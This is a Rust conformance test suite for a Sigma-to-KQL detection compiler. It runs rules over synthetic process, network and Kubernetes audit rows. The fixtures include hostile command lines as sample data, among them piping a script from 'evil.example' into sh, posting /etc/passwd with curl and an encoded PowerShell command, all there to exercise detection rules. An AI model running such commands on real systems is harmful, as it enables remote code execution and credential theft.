//! Sigma conformance: each modifier, value form and condition form of the
//! Sigma specification v2.1, compiled to KQL and run by the engine over a
//! few rows, asserting which rows match. Each test names the section of
//! the specification it follows ("rules" is sigma-rules-specification.md,
//! "modifiers" is sigma-appendix-modifiers.md, "filters" is
//! sigma-filters-specification.md, "correlation" is
//! sigma-correlation-rules-specification.md).

use std::sync::Arc;

use datafusion::arrow::array::{Array, AsArray};
use datafusion::arrow::datatypes::Int64Type;
use datafusion::datasource::MemTable;
use detect::fold::AlertCaps;
use detect::run::run_rule_capped;
use detect::sigma_rules::{Tables, to_rule};
use detect::sigma_scan::plan::ScanPlan;
use detect::sigma_scan::{TableScan, run_scan};
use kql_engine::{Catalog, Engine, EngineConfig, QueryOptions};
use serde_json::{Value as J, json};
use sigma::model::{Document, SigmaFilter, SigmaRule};
use sigma::{Mapping, Target, compile, load};
use telemetry::batch::{TableBuilder, Value};

/// The shipped mapping plus a time field, and placeholders, for the tests.
fn mapping() -> Mapping {
    let mut m = Mapping::builtin();
    for s in &mut m.sources {
        if s.table == "DeviceProcessEvents" {
            s.fields.push(("EventTime".into(), Target::Column("Timestamp".into())));
            // One value with a line break: the path, then "x".
            let expr = "pack_array(strcat(FolderPath, '\\n', 'x'))".to_string();
            s.fields.push(("Lines".into(), Target::Kql { expr, list: true }));
        }
    }
    m.placeholders.values.push(("admins".into(), vec!["root".into(), "adm*".into()]));
    m
}

/// Process rows: ReportId is the row's number.
fn process_rows() -> Vec<J> {
    vec![
        json!({"ReportId": 1, "FolderPath": "/usr/bin/curl", "ProcessCommandLine": "curl -s http://evil.example/x.sh | sh",
               "AccountName": "root", "InitiatingProcessAccountName": "root", "ProcessId": 10, "Timestamp": "2026-11-20T03:15:00Z"}),
        json!({"ReportId": 2, "FolderPath": "/usr/bin/CURL", "ProcessCommandLine": "CURL --data @/etc/passwd",
               "AccountName": "Admin", "InitiatingProcessAccountName": "root", "ProcessId": 200, "Timestamp": "2025-01-02T22:00:00Z"}),
        json!({"ReportId": 3, "FolderPath": "/bin/bash", "ProcessCommandLine": "bash -c 'echo aGVsbG8= | base64 -d'",
               "AccountName": "alice", "InitiatingProcessAccountName": "ALICE", "ProcessId": 300}),
        json!({"ReportId": 4, "FolderPath": "/usr/bin/python3", "ProcessCommandLine": "python3 -c print(1)", "AccountName": ""}),
        json!({"ReportId": 5, "FolderPath": "/bin/sh", "ProcessCommandLine": "sh -c id"}),
        json!({"ReportId": 6, "FolderPath": "/bin/ls", "ProcessCommandLine": "ls *.txt", "AccountName": "administrator"}),
        json!({"ReportId": 7, "FolderPath": "/usr/bin/pwsh",
               "ProcessCommandLine": "pwsh -enc VwByAGkAdABlAC0ASABvAHMAdAAgAHcAaABvAGEAbQBpAA=="}),
        json!({"ReportId": 8, "FolderPath": "/usr/bin/base64", "ProcessCommandLine": "base64 /d secret \u{2013}w 0"}),
    ]
}

fn network_rows() -> Vec<J> {
    vec![
        json!({"ReportId": 1, "RemoteIP": "10.1.2.3", "RemotePort": 443, "ActionType": "ConnectionSuccess"}),
        json!({"ReportId": 2, "RemoteIP": "192.168.0.7", "RemotePort": 4444, "ActionType": "InboundConnectionAccepted"}),
        json!({"ReportId": 3, "RemoteIP": "8.8.8.8", "RemotePort": 53, "ActionType": "ConnectionFailed"}),
        json!({"ReportId": 4}),
        json!({"ReportId": 5, "RemoteIP": "fe80::1c:2", "RemotePort": 22}),
        json!({"ReportId": 6, "RemoteIP": "::ffff:10.9.9.9"}),
    ]
}

fn audit_rows() -> Vec<J> {
    vec![
        json!({"AuditId": "a1", "Verb": "create", "ObjectRef": "{\"resource\":\"pods\",\"subresource\":\"exec\"}",
               "ResponseStatus": "{\"code\":201}", "SourceIps": "[\"10.0.0.9\"]",
               "RequestObject": json!({"spec": {"volumes": [{"name": "cfg", "configMap": {"name": "c"}},
                   {"name": "root", "hostPath": {"type": "Directory", "path": "/etc"}}],
                   "containers": [{"name": "x", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}}).to_string()}),
        json!({"AuditId": "a2", "Verb": "get", "ObjectRef": "{\"resource\":\"secrets\"}", "ResponseStatus": "{\"code\":403}"}),
        json!({"AuditId": "a3", "Verb": "create", "ObjectRef": "{\"resource\":\"pods\"}",
               "RequestObject": json!({"spec": {"volumes": [{"name": "cfg", "configMap": {"name": "hostPath"}}],
                   "containers": [{"name": "y", "args": ["\"capabilities\":{}"], "securityContext": {"privileged": false}}]}}).to_string()}),
    ]
}

fn table(name: &str, rows: &[J]) -> Arc<MemTable> {
    let schema = telemetry::tables::get(name).unwrap();
    let mut b = TableBuilder::new(schema.clone());
    for r in rows {
        let mut row = b.row();
        for (k, v) in r.as_object().unwrap() {
            let col = b.col(k);
            let ty = schema.field(col).data_type();
            row.set(col, Value::from_json(ty, v).unwrap());
        }
        b.push(&row);
    }
    Arc::new(MemTable::try_new(schema, vec![vec![b.finish()]]).unwrap())
}

fn engine() -> Engine {
    let mut catalog = Catalog::new();
    catalog.register("DeviceProcessEvents", table("DeviceProcessEvents", &process_rows()));
    catalog.register("DeviceNetworkEvents", table("DeviceNetworkEvents", &network_rows()));
    catalog.register("AKSAudit", table("AKSAudit", &audit_rows()));
    catalog.register("DeviceFileEvents", table("DeviceFileEvents", &[]));
    Engine::new(catalog, EngineConfig::unlimited())
}

fn docs(text: &str) -> Vec<Document> {
    let (docs, diags) = load(text, "t.yml", &mapping().placeholders);
    assert!(diags.iter().all(|d| !d.is_error()), "{diags:#?}");
    docs
}

fn rules_and_filters(text: &str) -> (Vec<SigmaRule>, Vec<SigmaFilter>) {
    let (mut rules, mut filters) = (Vec::new(), Vec::new());
    for d in docs(text) {
        match d {
            Document::Rule(r) => rules.push(*r),
            Document::Filter(f) => filters.push(*f),
            Document::Correlation(_) => {}
        }
    }
    (rules, filters)
}

/// The KQL of the file's first rule, with every filter in the file.
fn kql(text: &str) -> String {
    let (rules, filters) = rules_and_filters(text);
    let filters: Vec<&SigmaFilter> = filters.iter().collect();
    compile(&rules[0], &filters, &mapping(), &Tables).unwrap_or_else(|e| panic!("{e:#?}")).kql
}

/// The ids of the rows the file's first rule matches (with every filter in
/// the file), after checking that the one-scan executor gives the same.
fn matched(text: &str) -> Vec<String> {
    let (rules, filters) = rules_and_filters(text);
    let filters: Vec<&SigmaFilter> = filters.iter().collect();
    matched_rule(&rules[0], &filters)
}

/// The ids of the rows `rule` matches, run as its KQL; its run through the
/// one-scan executor must give the same row count and the same alerts.
fn matched_rule(rule: &SigmaRule, filters: &[&SigmaFilter]) -> Vec<String> {
    let compiled = compile(rule, filters, &mapping(), &Tables).unwrap_or_else(|e| panic!("{e:#?}"));
    let ids = run(&compiled.kql);
    let (r, _) = to_rule(rule, filters, &mapping()).unwrap_or_else(|e| panic!("{e:#?}"));
    let caps = AlertCaps { max_alerts: 1000, max_evidence: 1000 };
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let engine = engine();
    let by_kql = rt.block_on(run_rule_capped(&engine, &r, 0, caps)).unwrap();
    let mut plan = ScanPlan::new(&compiled.table);
    plan.add_rule(&compiled.condition, &compiled.extends);
    let scan = TableScan { plan, rules: vec![0] };
    let by_scan = rt.block_on(run_scan(&engine, &scan, std::slice::from_ref(&r), 0, caps)).unwrap();
    assert_eq!(by_scan[0].rows, by_kql.rows, "{}", compiled.kql);
    assert_eq!(by_scan[0].rows, ids.len(), "{}", compiled.kql);
    assert_eq!(format!("{:?}", by_scan[0].alerts), format!("{:?}", by_kql.alerts), "{}", compiled.kql);
    ids
}

/// The ids of the rows the query returns, sorted.
fn run(kql: &str) -> Vec<String> {
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let results = rt.block_on(engine().run(kql, QueryOptions { now: 0 })).unwrap_or_else(|e| panic!("{kql}\n{e}"));
    let mut ids = Vec::new();
    for b in &results[0].batches {
        let (i, _) = b.schema().column_with_name("ReportId").or(b.schema().column_with_name("AuditId")).unwrap();
        let col = b.column(i);
        for r in 0..b.num_rows() {
            ids.push(match col.as_primitive_opt::<Int64Type>() {
                Some(a) => a.value(r).to_string(),
                None => col.as_string_view_opt().map(|s| s.value(r).to_string()).unwrap_or_default(),
            });
        }
        assert_eq!(col.null_count(), 0);
    }
    ids.sort();
    ids
}

/// The rows a process_creation rule with this detection matches.
fn process(detection: &str) -> Vec<String> {
    let text = format!(
        "title: t\nid: r1\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n{detection}"
    );
    matched(&text)
}

fn ids(list: &[u32]) -> Vec<String> {
    let mut v: Vec<String> = list.iter().map(|i| i.to_string()).collect();
    v.sort();
    v
}

// rules, "General": values are case-insensitive strings.
#[test]
fn plain_values_match_whole_values_ignoring_case() {
    assert_eq!(process("  sel:\n    Image: /usr/bin/curl\n  condition: sel\n"), ids(&[1, 2]));
}

// modifiers, "Generic Modifiers": cased.
#[test]
fn cased_matches_case_sensitively() {
    assert_eq!(process("  sel:\n    Image|cased: /usr/bin/curl\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    CommandLine|contains|cased: CURL\n  condition: sel\n"), ids(&[2]));
}

// modifiers, "Generic Modifiers": contains, startswith, endswith.
#[test]
fn contains_startswith_endswith() {
    assert_eq!(process("  sel:\n    CommandLine|contains: ETC/passwd\n  condition: sel\n"), ids(&[2]));
    assert_eq!(process("  sel:\n    CommandLine|startswith: 'SH -'\n  condition: sel\n"), ids(&[5]));
    assert_eq!(process("  sel:\n    Image|endswith: /SH\n  condition: sel\n"), ids(&[5]));
}

// rules, "String Wildcard": `*` and `?` anywhere in a value.
#[test]
fn wildcards_anywhere() {
    assert_eq!(process("  sel:\n    Image: '/usr/bin/?url'\n  condition: sel\n"), ids(&[1, 2]));
    assert_eq!(process("  sel:\n    CommandLine: 'curl*EVIL*sh'\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    Image: '/bin/*'\n  condition: sel\n"), ids(&[3, 5, 6]));
    // `has` would match the term `sh` inside row 1's command line; `*sh` must not.
    assert_eq!(process("  sel:\n    CommandLine: '*sh'\n  condition: sel\n"), ids(&[1]));
}

// rules, "Escape Character": `\*` is a plain star.
#[test]
fn escaped_wildcards_are_plain_characters() {
    assert_eq!(process("  sel:\n    CommandLine: 'ls \\*.txt'\n  condition: sel\n"), ids(&[6]));
    assert_eq!(process("  sel:\n    CommandLine: 'ls \\*.tx?'\n  condition: sel\n"), ids(&[6]));
    assert_eq!(process("  sel:\n    CommandLine: 'ls \\*\\?txt'\n  condition: sel\n"), Vec::<String>::new());
}

// rules, "Lists" and "Maps": values OR-ed, map items AND-ed, lists of maps OR-ed.
#[test]
fn lists_and_maps() {
    assert_eq!(process("  sel:\n    Image:\n      - /bin/sh\n      - /bin/ls\n  condition: sel\n"), ids(&[5, 6]));
    assert_eq!(process("  sel:\n    Image: /usr/bin/curl\n    User: root\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    - Image: /bin/sh\n    - User: alice\n  condition: sel\n"), ids(&[3, 5]));
}

// modifiers, "Generic Modifiers": all.
#[test]
fn all_joins_values_with_and() {
    assert_eq!(
        process("  sel:\n    CommandLine|contains|all:\n      - curl\n      - passwd\n  condition: sel\n"),
        ids(&[2])
    );
}

// rules, "Keywords search": values searched in the event (the mapping's keyword columns).
#[test]
fn keywords() {
    assert_eq!(process("  kw:\n    - 'evil.example'\n    - 'PRINT('\n  condition: kw\n"), ids(&[1, 4]));
    assert_eq!(process("  kw:\n    '|all':\n      - curl\n      - passwd\n  condition: kw\n"), ids(&[2]));
}

// rules, "Special Field Values" and "Field Existence": null, '' and exists.
// KQL has no null strings, so an absent text field and an empty one are the same.
#[test]
fn null_empty_and_exists() {
    assert_eq!(process("  sel:\n    User: null\n  condition: sel\n"), ids(&[4, 5, 7, 8]));
    assert_eq!(process("  sel:\n    User: ''\n  condition: sel\n"), ids(&[4, 5, 7, 8]));
    assert_eq!(process("  sel:\n    User|exists: true\n  condition: sel\n"), ids(&[1, 2, 3, 6]));
    assert_eq!(process("  sel:\n    User|exists: false\n  condition: sel\n"), ids(&[4, 5, 7, 8]));
    assert_eq!(process("  sel:\n    ProcessId|exists: true\n  condition: sel\n"), ids(&[1, 2, 3]));
}

// modifiers, "Generic Modifiers": neq.
#[test]
fn neq_is_different_from_every_value() {
    assert_eq!(process("  sel:\n    User|neq:\n      - root\n      - ''\n  condition: sel\n"), ids(&[2, 3, 6]));
}

// modifiers, "Regular Expression": re, case-sensitive unless i; m and s.
#[test]
fn regular_expressions() {
    assert_eq!(process("  sel:\n    CommandLine|re: '^curl\\s'\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    CommandLine|re|i: '^curl\\s'\n  condition: sel\n"), ids(&[1, 2]));
    assert_eq!(process("  sel:\n    CommandLine|re: 'print\\(\\d\\)$'\n  condition: sel\n"), ids(&[4]));
    assert!(kql("title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|re|m|s: a.b\n  condition: s\n").contains("(?ms)a.b"));
}

// modifiers, "Encoding": base64, base64offset, utf16le/wide.
#[test]
fn base64_encodings() {
    assert_eq!(process("  sel:\n    CommandLine|base64|contains: hello\n  condition: sel\n"), ids(&[3]));
    assert_eq!(process("  sel:\n    CommandLine|base64offset|contains: ello\n  condition: sel\n"), ids(&[3]));
    assert_eq!(process("  sel:\n    CommandLine|wide|base64offset|contains: whoami\n  condition: sel\n"), ids(&[7]));
    assert_eq!(
        process("  sel:\n    CommandLine|utf16le|base64offset|contains: Write-Host\n  condition: sel\n"),
        ids(&[7])
    );
    assert_eq!(
        process("  sel:\n    CommandLine|utf16be|base64offset|contains: Write\n  condition: sel\n"),
        Vec::<String>::new()
    );
}

// modifiers, "String Modifiers": windash.
#[test]
fn windash_interchanges_dashes() {
    assert_eq!(process("  sel:\n    CommandLine|windash|contains: ' -d'\n  condition: sel\n"), ids(&[3, 8]));
    assert_eq!(process("  sel:\n    CommandLine|windash|contains: ' -w 0'\n  condition: sel\n"), ids(&[8]));
    // Only a flag's dash varies: `/enc` matches `-enc`; the `-` of `http:-/` is no flag's.
    assert_eq!(process("  sel:\n    CommandLine|windash|contains: '/enc V'\n  condition: sel\n"), ids(&[7]));
    assert_eq!(process("  sel:\n    CommandLine|windash|contains: 'http:-/evil'\n  condition: sel\n"), ids(&[]));
}

// modifiers, "Numeric Modifiers": lt, lte, gt, gte; `not` keeps rows without the field.
#[test]
fn numeric_comparisons() {
    assert_eq!(process("  sel:\n    ProcessId|lt: 200\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    ProcessId|lte: 200\n  condition: sel\n"), ids(&[1, 2]));
    assert_eq!(process("  sel:\n    ProcessId|gt: 200\n  condition: sel\n"), ids(&[3]));
    assert_eq!(process("  sel:\n    ProcessId|gte: 200\n  condition: sel\n"), ids(&[2, 3]));
    assert_eq!(process("  sel:\n    ProcessId|gte: 200\n  condition: not sel\n"), ids(&[1, 4, 5, 6, 7, 8]));
    assert_eq!(process("  sel:\n    ProcessId: 300\n  condition: sel\n"), ids(&[3]));
}

// modifiers, "Time Modifiers": minute, hour, day, week, month, year.
#[test]
fn time_parts() {
    assert_eq!(process("  sel:\n    EventTime|hour: 3\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    EventTime|minute: 15\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    EventTime|year: 2025\n  condition: sel\n"), ids(&[2]));
    assert_eq!(process("  sel:\n    EventTime|month: 11\n  condition: sel\n"), ids(&[1]));
    assert_eq!(process("  sel:\n    EventTime|day: 2\n  condition: sel\n"), ids(&[2]));
    assert_eq!(process("  sel:\n    EventTime|week: 1\n  condition: sel\n"), ids(&[2]));
    assert_eq!(process("  sel:\n    EventTime|hour: 3\n  condition: not sel\n"), ids(&[2, 3, 4, 5, 6, 7, 8]));
}

// modifiers, "IP (Internet Protocol) Modifiers": cidr.
#[test]
fn cidr_ranges() {
    let net = |det: &str| {
        matched(&format!("title: t\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n{det}"))
    };
    assert_eq!(
        net("  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 192.168.0.0/16\n  condition: sel\n"),
        ids(&[1, 2])
    );
    assert_eq!(net("  sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: not sel\n"), ids(&[2, 3, 4, 5, 6]));
    assert_eq!(net("  sel:\n    DestinationIp|cidr: fe80::/10\n  condition: sel\n"), ids(&[5]));
    // An IPv4 address is in no IPv6 network; an IPv4-mapped IPv6 address is in IPv6 ones only.
    assert_eq!(net("  sel:\n    DestinationIp|cidr: '::/0'\n  condition: sel\n"), ids(&[5, 6]));
    assert_eq!(net("  sel:\n    DestinationIp|cidr: '::ffff:0:0/96'\n  condition: not sel\n"), ids(&[1, 2, 3, 4, 5]));
    assert_eq!(net("  sel:\n    DestinationPort: 4444\n  condition: sel\n"), ids(&[2]));
}

// rules, "Placeholders" and modifiers, "Specific Modifiers": expand.
#[test]
fn expand_placeholders() {
    assert_eq!(process("  sel:\n    User|expand: '%admins%'\n  condition: sel\n"), ids(&[1, 2, 6]));
    let (_, diags) = load(
        "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    User|expand: '%nobody%'\n  condition: s\n",
        "t.yml",
        &mapping().placeholders,
    );
    assert!(diags.iter().any(|d| d.is_error() && d.key == "detection.s.User|expand" && d.line == 5), "{diags:#?}");
}

// modifiers, "Specific Modifiers": fieldref.
#[test]
fn field_references() {
    assert_eq!(process("  sel:\n    User|fieldref: ParentUser\n  condition: sel\n"), ids(&[1, 3, 4, 5, 7, 8]));
    assert_eq!(process("  sel:\n    User|fieldref|cased: ParentUser\n  condition: sel\n"), ids(&[1, 4, 5, 7, 8]));
    // Rows 4 to 8 have no parent user: every text starts with "".
    assert_eq!(
        process("  sel:\n    CommandLine|fieldref|startswith: ParentUser\n  condition: sel\n"),
        ids(&[4, 5, 6, 7, 8])
    );
}

// rules, "Condition": and, or, not, parentheses, precedence.
#[test]
fn boolean_conditions() {
    let det = "  a:\n    Image|startswith: /usr/bin/\n  b:\n    User: root\n  c:\n    Image|endswith: /curl\n";
    assert_eq!(process(&format!("{det}  condition: a and not b\n")), ids(&[2, 4, 7, 8]));
    assert_eq!(process(&format!("{det}  condition: b or c and not a\n")), ids(&[1]));
    assert_eq!(process(&format!("{det}  condition: (b or c) and a\n")), ids(&[1, 2]));
    assert_eq!(process(&format!("{det}  condition: not (a or b)\n")), ids(&[3, 5, 6]));
}

// rules, "Condition": 1 of / all of a pattern, them, `_` identifiers left out of them.
#[test]
fn quantified_conditions() {
    let det = "  sel_a:\n    Image|startswith: /usr/bin/\n  sel_b:\n    User: root\n  _helper:\n    Image: /bin/ls\n";
    assert_eq!(process(&format!("{det}  condition: 1 of sel_*\n")), ids(&[1, 2, 4, 7, 8]));
    assert_eq!(process(&format!("{det}  condition: all of sel_*\n")), ids(&[1]));
    assert_eq!(process(&format!("{det}  condition: 1 of them\n")), ids(&[1, 2, 4, 7, 8]));
    assert_eq!(process(&format!("{det}  condition: all of them\n")), ids(&[1]));
    assert_eq!(process(&format!("{det}  condition: 1 of sel_* or _helper\n")), ids(&[1, 2, 4, 6, 7, 8]));
}

// rules, "Condition": a list of conditions is OR-ed.
#[test]
fn condition_lists_are_or() {
    let det = "  a:\n    User: alice\n  b:\n    User: root\n  condition:\n    - a\n    - b\n";
    assert_eq!(process(det), ids(&[1, 3]));
}

// filters, "Global filter": a filter is AND NOT over the rules it names.
#[test]
fn filters_apply_to_the_rules_they_name() {
    let text = "title: curl\nid: r-curl\nlogsource: {product: linux, category: process_creation}\n\
                detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n---\n\
                title: not root\nlogsource: {product: linux, category: process_creation}\n\
                filter:\n  rules: [r-curl]\n  selection:\n    User: root\n  condition: selection\n";
    assert_eq!(matched(text), ids(&[2]));
}

// Multi-document rules (Sigma v1 rule collections): action global, repeat, reset.
#[test]
fn multi_document_rules() {
    let text = "action: global\ntitle: t\nlogsource: {product: linux, category: process_creation}\n\
                detection:\n  condition: sel\n---\nid: one\ndetection:\n  sel:\n    User: root\n---\n\
                action: repeat\nid: two\ndetection:\n  sel:\n    User: alice\n";
    let (rules, _) = rules_and_filters(text);
    assert_eq!(rules.len(), 2);
    let no_filters: Vec<&SigmaFilter> = Vec::new();
    let q: Vec<Vec<String>> = rules.iter().map(|r| matched_rule(r, &no_filters)).collect();
    assert_eq!(q, vec![ids(&[1]), ids(&[3])]);
    assert_eq!(rules[1].meta.title, "t");
    let reset = "action: global\ntitle: t\n---\naction: reset\n---\nlogsource: {product: linux}\ndetection:\n  s: [x]\n  condition: s\n";
    let (_, diags) = load(reset, "r.yml", &mapping().placeholders);
    assert!(diags.iter().any(|d| d.key == "title" && d.line == 6), "{diags:#?}");
}

// Kubernetes audit through dynamic columns; a number against a text path compares its text.
#[test]
fn kubernetes_audit_fields() {
    let k8s = |det: &str| {
        matched(&format!("title: t\nlogsource:\n  product: kubernetes\n  service: audit\ndetection:\n{det}"))
    };
    assert_eq!(
        k8s("  sel:\n    objectRef.resource: pods\n    objectRef.subresource: exec\n  condition: sel\n"),
        vec!["a1"]
    );
    assert_eq!(k8s("  sel:\n    responseStatus.code: 403\n  condition: sel\n"), vec!["a2"]);
    assert_eq!(k8s("  sel:\n    sourceIPs: 10.0.0.9\n  condition: sel\n"), vec!["a1"]);
}

// rules, "Lists": a field with several values matches when one of them does. The mapping's
// computed list fields: each volume's host path, each container's capabilities; a3 names
// neither (only a volume called "hostPath" and an argument that reads like the key).
#[test]
fn computed_list_fields_match_any_element() {
    let k8s = |det: &str| {
        matched(&format!("title: t\nlogsource:\n  product: kubernetes\n  service: audit\ndetection:\n{det}"))
    };
    assert_eq!(k8s("  sel:\n    verb: create\n    hostPath: '*'\n  condition: sel\n"), vec!["a1"]);
    assert_eq!(k8s("  sel:\n    hostPath: /etc\n  condition: sel\n"), vec!["a1"]);
    assert_eq!(k8s("  sel:\n    hostPath: /ETC\n  condition: sel\n"), vec!["a1"]);
    assert_eq!(k8s("  sel:\n    hostPath|cased: /ETC\n  condition: sel\n"), Vec::<String>::new());
    assert_eq!(k8s("  sel:\n    hostPath|startswith: /e\n  condition: sel\n"), vec!["a1"]);
    assert_eq!(k8s("  sel:\n    hostPath: /et\n  condition: sel\n"), Vec::<String>::new());
    assert_eq!(k8s("  sel:\n    hostPath|contains: hostPath\n  condition: sel\n"), Vec::<String>::new());
    assert_eq!(k8s("  sel:\n    capabilities|contains: SYS_ADMIN\n  condition: sel\n"), vec!["a1"]);
    assert_eq!(k8s("  sel:\n    capabilities: '*'\n  condition: sel\n"), vec!["a1"]);
    assert_eq!(k8s("  sel:\n    hostPath: '*'\n  condition: not sel\n"), vec!["a2", "a3"]);
    // A value with a line break is not taken for two: only `*` matches it.
    assert_eq!(process("  sel:\n    Lines: x\n  condition: sel\n"), ids(&[]));
    assert_eq!(process("  sel:\n    Lines|endswith: x\n  condition: sel\n"), ids(&[]));
    assert_eq!(process("  sel:\n    Lines: '*'\n  condition: sel\n"), ids(&[1, 2, 3, 4, 5, 6, 7, 8]));
}

// A computed text field: Sysmon's Initiated from Defender's ActionType (true outbound,
// false inbound, neither for a row without one).
#[test]
fn computed_fields_read_as_text() {
    let net = |det: &str| {
        matched(&format!("title: t\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n{det}"))
    };
    assert_eq!(net("  sel:\n    Initiated: 'true'\n  condition: sel\n"), ids(&[1, 3]));
    assert_eq!(net("  sel:\n    Initiated: 'false'\n  condition: sel\n"), ids(&[2]));
    assert_eq!(net("  sel:\n    Initiated: 'true'\n  condition: not sel\n"), ids(&[2, 4, 5, 6]));
    let text = "title: t\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n  sel:\n    Initiated: 'true'\n  condition: sel\n";
    assert!(kql(text).contains("(case(ActionType in ("), "{}", kql(text));
}

// correlation, "Correlation Types": every type reads into the model.
#[test]
fn correlations_are_read() {
    for (ty, extra) in [
        ("event_count", "  condition:\n    gte: 10\n"),
        ("value_count", "  condition:\n    field: User\n    gt: 3\n"),
        ("temporal", ""),
        ("temporal_ordered", ""),
        ("value_sum", "  condition:\n    field: Bytes\n    gt: 100\n    lte: 200\n"),
        ("value_avg", "  condition:\n    field: Bytes\n    gt: 100\n"),
        ("value_percentile", "  condition:\n    field: Image\n    lte: 1\n"),
    ] {
        let text = format!(
            "title: c\nid: c1\ncorrelation:\n  type: {ty}\n  rules: [r1, r2]\n  group-by: [User]\n  timespan: 15m\n  generate: true\n{extra}"
        );
        let docs = docs(&text);
        let Document::Correlation(c) = &docs[0] else { panic!("{ty}: {docs:?}") };
        assert_eq!(c.rules, vec!["r1", "r2"]);
        assert_eq!(c.timespan_secs, 900);
        assert!(c.generate);
        assert_eq!(c.group_by, vec!["User"]);
    }
    let text = "title: c\ncorrelation:\n  type: temporal\n  rules: [a, b]\n  group-by: [ip]\n  timespan: 10s\n  aliases:\n    ip:\n      a: destination.ip\n      b: source.ip\n";
    let Document::Correlation(c) = &docs(text)[0] else { panic!() };
    assert_eq!(
        c.aliases,
        vec![("ip".to_string(), vec![("a".into(), "destination.ip".into()), ("b".into(), "source.ip".into())])]
    );
    let (_, diags) = load(
        "title: c\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 1x\n",
        "c.yml",
        &mapping().placeholders,
    );
    let keys: Vec<&str> = diags.iter().map(|d| d.key.as_str()).collect();
    assert!(keys.contains(&"correlation.timespan") && keys.contains(&"correlation.condition"), "{keys:?}");
}

// rules, "Field Usage": a field the mapping lacks is an error naming the field and logsource.
#[test]
fn unmapped_fields_are_errors_not_silent_misses() {
    let text = "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Nonsense: 1\n  condition: s\n";
    let (rules, _) = rules_and_filters(text);
    let err = compile(&rules[0], &[], &mapping(), &Tables).unwrap_err();
    assert_eq!((err[0].pos.line, err[0].key.as_str()), (5, "detection.s.Nonsense"));
    assert!(err[0].message.contains("Nonsense") && err[0].message.contains("process_creation"), "{err:?}");
}

// rules, "Lists": long lists stay exact and within the query's depth bounds.
#[test]
fn long_lists_of_values() {
    let many = |prefix: &str, last: &str| {
        let mut s: String = (0..5000).map(|i| format!("      - '{prefix}{i}'\n")).collect();
        s.push_str(&format!("      - '{last}'\n"));
        s
    };
    assert_eq!(process(&format!("  sel:\n    Image:\n{}  condition: sel\n", many("/x/", "/BIN/LS"))), ids(&[6]));
    assert_eq!(process(&format!("  sel:\n    Image|cased:\n{}  condition: sel\n", many("/x/", "/BIN/LS"))), ids(&[]));
    assert_eq!(
        process(&format!("  sel:\n    CommandLine|contains:\n{}  condition: sel\n", many("zz", "?.TXT"))),
        ids(&[6])
    );
    assert_eq!(
        process(&format!("  sel:\n    CommandLine|contains:\n{}  condition: sel\n", many("zz", "\\*.TXT"))),
        ids(&[6])
    );
    assert_eq!(
        process(&format!("  sel:\n    CommandLine|contains|cased:\n{}  condition: sel\n", many("zz", ".TXT"))),
        ids(&[])
    );
    assert_eq!(
        process(&format!("  sel:\n    Image:\n{}  condition: not sel\n", many("/x/", "/bin/ls"))),
        ids(&[1, 2, 3, 4, 5, 7, 8])
    );
}

// filters, "Log source": a filter applies to the rules it names whose logsource its own covers.
#[test]
fn a_filter_applies_only_within_its_logsource() {
    let rule = "title: curl\nid: r-curl\nlogsource: {product: linux, category: process_creation}\n\
                detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n";
    let filter = |ls: &str| {
        format!(
            "---\ntitle: f\nlogsource: {ls}\nfilter:\n  rules: [r-curl]\n  selection:\n    User: root\n  condition: selection\n"
        )
    };
    let query = |ls: &str| {
        let mut pack = detect::RulePack::default();
        pack.add_text(&format!("{rule}{}", filter(ls)), "p.yml");
        assert!(pack.errors().next().is_none(), "{:#?}", pack.diagnostics);
        pack.get("r-curl").unwrap().query.clone()
    };
    assert!(query("{product: linux}").ends_with("and not(AccountName =~ \"root\")"));
    assert!(query("{product: Linux, category: process_creation}").ends_with("and not(AccountName =~ \"root\")"));
    assert!(!query("{product: linux, category: network_connection}").contains("not("));
    // A filter loaded before the rule applies as well.
    let mut pack = detect::RulePack::default();
    pack.add_text(filter("{product: linux}").trim_start_matches("---\n"), "f.yml");
    pack.add_text(rule, "r.yml");
    assert!(pack.get("r-curl").unwrap().query.contains("not("));
}

// filters, "filter selection": a filter's problem is reported in the filter's file.
#[test]
fn a_filter_error_names_the_filter_file() {
    let mut pack = detect::RulePack::default();
    pack.add_text(
        "title: curl\nid: r-curl\nlogsource: {product: linux, category: process_creation}\n\
         detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n",
        "r.yml",
    );
    pack.add_text(
        "title: f\nlogsource: {product: linux}\nfilter:\n  rules: [r-curl]\n  selection:\n    Nonsense: x\n  condition: selection\n",
        "f.yml",
    );
    let e = pack.errors().next().expect("an error");
    assert_eq!((e.file.as_str(), e.line, e.key.as_str()), ("f.yml", 6, "filter.selection.Nonsense"), "{e}");
    assert!(pack.get("r-curl").is_none(), "a rule whose filter does not compile is left out");
}
